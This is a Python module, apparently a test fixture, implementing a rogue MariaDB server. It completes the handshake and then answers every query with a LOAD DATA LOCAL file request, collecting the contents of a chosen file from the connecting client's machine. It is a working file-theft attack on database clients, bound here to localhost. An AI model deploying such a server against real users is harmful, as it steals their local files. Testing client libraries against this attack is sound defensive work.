"""A server that speaks MariaDB just well enough to ask whoever connects for a file of their machine."""

from __future__ import annotations

import asyncio
import struct
from contextlib import asynccontextmanager
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

_CAPABILITIES = 0x000F_A68D | 0x0080
"""Among others: long passwords, databases, protocol 4.1, authentication plugins, LOAD DATA LOCAL."""
_OK = b"\x00\x00\x00\x02\x00\x00\x00"


@asynccontextmanager
async def rogue_server(path: str) -> AsyncIterator[tuple[int, list[bytes]]]:
    """Serve; the port, and what clients have sent when they were asked for the file."""
    got: list[bytes] = []
    tasks: set[asyncio.Task[None]] = set()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await _serve(reader, writer, path, got)
        except (asyncio.IncompleteReadError, ConnectionError):
            pass
        finally:
            writer.close()

    def begin(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        tasks.add(asyncio.ensure_future(serve(reader, writer)))

    server = await asyncio.start_server(begin, "127.0.0.1", 0)
    try:
        yield server.sockets[0].getsockname()[1], got
    finally:
        server.close()
        for one in tasks:
            one.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def _serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, path: str, got: list[bytes]) -> None:
    greeting = b"\x0a10.11.1-MariaDB\x00" + struct.pack("<I", 1) + b"12345678\x00"
    greeting += struct.pack("<HBHHB", _CAPABILITIES & 0xFFFF, 45, 2, _CAPABILITIES >> 16, 21) + bytes(10)
    greeting += b"123456789012\x00mysql_native_password\x00"
    _send(writer, 0, greeting)
    number, _ = await _receive(reader)
    _send(writer, number + 1, _OK)
    while True:
        await _receive(reader)
        _send(writer, 1, b"\xfb" + path.encode())
        number, answer = await _receive(reader)
        while answer:
            got.append(answer)
            number, answer = await _receive(reader)
        _send(writer, number + 1, _OK)


def _send(writer: asyncio.StreamWriter, number: int, payload: bytes) -> None:
    writer.write(len(payload).to_bytes(3, "little") + bytes([number & 0xFF]) + payload)


async def _receive(reader: asyncio.StreamReader) -> tuple[int, bytes]:
    header = await reader.readexactly(4)
    return header[3], await reader.readexactly(int.from_bytes(header[:3], "little"))
